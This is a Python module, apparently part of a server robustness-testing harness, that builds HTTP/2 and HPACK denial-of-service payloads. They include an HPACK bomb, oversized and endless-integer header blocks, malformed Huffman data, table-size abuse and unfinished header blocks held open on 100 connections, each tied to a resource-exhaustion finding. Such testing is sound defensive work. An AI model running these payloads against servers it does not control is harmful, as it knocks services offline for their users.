"""Header blocks that cost the server more than they cost the attacker: memory, processor time, or its patience."""

import struct
from typing import Final

from attacks.attack import Attack, Report, Stage, persist
from attacks.raw_http2 import END_HEADERS, END_STREAM, Kind, Setting, call_block, frame, headers_frame, integer, literal
from attacks.raw_peer import RawPeer

LARGE_ENTRY_BYTES: Final = 4_000
"""Of the 4,096 that a dynamic table has room for, less the 32 that an entry counts on top."""
REFERENCES: Final = 16_000
NEWEST_ENTRY: Final = 0x80 | 62
"""The newest entry of the dynamic table, as an indexed field: a byte that stands for the whole entry."""


def much_metadata(stage: Stage) -> Report:
    """Calls with 60 KB of metadata each, though the server advertises 8 KiB."""
    block = call_block("Version", [(f"x-{at}", "v" * 1_000) for at in range(60)])
    return _blocks(stage, block)


def many_small_headers(stage: Stage) -> Report:
    """Calls with 4,000 headers of two bytes: small on the wire, large as objects (CVE-2025-53864 and its kind)."""
    return _blocks(stage, call_block("Version") + literal("a", "b") * 4_000)


def hpack_bomb(stage: Stage) -> Report:
    """One entry of 4,000 bytes, referred to 16,000 times: 64 MB of headers in 20 KB (CVE-2016-6581)."""
    entry = literal("x", "v" * LARGE_ENTRY_BYTES, first=0x40)
    return _blocks(stage, call_block("Version") + entry + bytes([NEWEST_ENTRY]) * REFERENCES)


def hpack_table_that_grows(stage: Stage) -> Report:
    """Table sizes of 4 GiB and of 4,096 in turn, thousands in one block (RFC 7541, 4.2 allows no more than set)."""
    return _blocks(stage, (integer(2**32 - 1, 5, 0x20) + integer(4_096, 5, 0x20)) * 1_000 + call_block("Version"))


def hpack_many_size_updates(stage: Stage) -> Report:
    """Thousands of table size updates that are allowed, in block after block."""
    return _blocks(stage, (b"\x20" + integer(4_096, 5, 0x20)) * 4_000 + call_block("Version"))


def hpack_evictions(stage: Stage) -> Report:
    """Blocks that fill the dynamic table and push it all out again, entry by entry."""
    small = b"".join(literal(f"n{at}", "", first=0x40) for at in range(120))
    return _blocks(stage, call_block("Version") + (small + literal("x", "v" * LARGE_ENTRY_BYTES, first=0x40)) * 3)


def hpack_endless_integer(stage: Stage) -> Report:
    """An integer of 256 KB: what costs hpack 3.0.0 seconds of processor time (CVE-2026-59980)."""
    return _blocks(stage, b"\x7f" + b"\xff" * 256_000 + b"\x00" + call_block("Version"))


def hpack_long_zero_integer(stage: Stage) -> Report:
    """As hpack_endless_integer, with digits of zero: no limit on the value sees it."""
    return _blocks(stage, b"\x7f" + b"\x80" * 256_000 + b"\x00" + call_block("Version"))


def hpack_broken(stage: Stage) -> Report:
    """Truncated literals, index 0, entries that do not exist, Huffman codes that end in the middle or mean EOS."""
    broken = [
        b"\x80",
        b"\xff\xff\xff\xff\xff\xff\x0f",
        bytes([NEWEST_ENTRY]),
        b"\x40\x01",
        b"\x40\x7f\xff\xff\xff\xff\x07name",
        b"\x40\x01a\x82\xff\xff",
        b"\x40\x01a\x84\xff\xff\xff\xff",
        b"\x40\x01a\x81\x00",
        call_block("Version")[:-3],
        call_block("Version") + b"\x20",
    ]

    def once(peer: RawPeer) -> int:
        for block in broken[len(peer.headers) % len(broken) :]:
            if peer.closed:
                break
            peer.send(headers_frame(peer.new_stream(), block, end_stream=True), stage.end_s)
            peer.read_for(0.002)
        broken.append(broken.pop(0))
        return 1

    return persist(stage, once)


def blocks_without_an_end(stage: Stage) -> Report:
    """100 connections that each begin a header block of 15 KB, never end it, and wait."""
    block = call_block("Version") + literal("a", "b" * 15_000)
    peers = [stage.connect() for _ in range(100)]
    for peer in peers:
        peer.send(frame(Kind.HEADERS, 0, 1, block))
    stage.rest()
    for peer in peers:
        peer.close()
    return Report(f"{len(peers)} connections")


def decoder_table_set_to_nothing(stage: Stage) -> Report:
    """SETTINGS_HEADER_TABLE_SIZE of 0 and of 4 GiB in turn: what the server's encoder must follow."""

    def once(peer: RawPeer) -> int:
        for size in (0, 2**32 - 1):
            peer.send(frame(Kind.SETTINGS, payload=struct.pack(">HI", Setting.HEADER_TABLE_SIZE, size)), stage.end_s)
            peer.send(headers_frame(peer.new_stream(), call_block("Version"), end_stream=True), stage.end_s)
        peer.read_for(0.002)
        return 2

    return persist(stage, once)


def trailers_and_headers_again(stage: Stage) -> Report:
    """Requests with trailers, with headers twice, and headers after the end of the stream."""

    def once(peer: RawPeer) -> int:
        stream_id = peer.start("Commit")
        trailers = literal("x", "y" * 4_000)
        for flags in (END_HEADERS, END_HEADERS, END_HEADERS | END_STREAM, END_HEADERS):
            peer.send(frame(Kind.HEADERS, flags, stream_id, trailers), stage.end_s)
        peer.read_for(0.001)
        return 4

    return persist(stage, once)


def _blocks(stage: Stage, block: bytes) -> Report:
    def once(peer: RawPeer) -> int:
        peer.send(headers_frame(peer.new_stream(), block, end_stream=True), stage.end_s)
        return 1

    return persist(stage, once)


METADATA: Final = "60 KB of metadata accepted, though 8,192 is advertised"
HPACK: Final = "256 KB of header bytes cost 5.3 s of CPU (hpack 3.0.0)"
ATTACKS: Final = (
    Attack(much_metadata, METADATA),
    Attack(many_small_headers, METADATA),
    Attack(hpack_bomb, METADATA),
    Attack(hpack_table_that_grows, HPACK),
    Attack(hpack_many_size_updates, HPACK),
    Attack(hpack_evictions, HPACK),
    Attack(hpack_endless_integer, HPACK),
    Attack(hpack_long_zero_integer, HPACK),
    Attack(hpack_broken, HPACK),
    Attack(decoder_table_set_to_nothing, HPACK),
    Attack(blocks_without_an_end, "no limit on continuation frames"),
    Attack(trailers_and_headers_again, "a frame for a stream that is gone"),
)
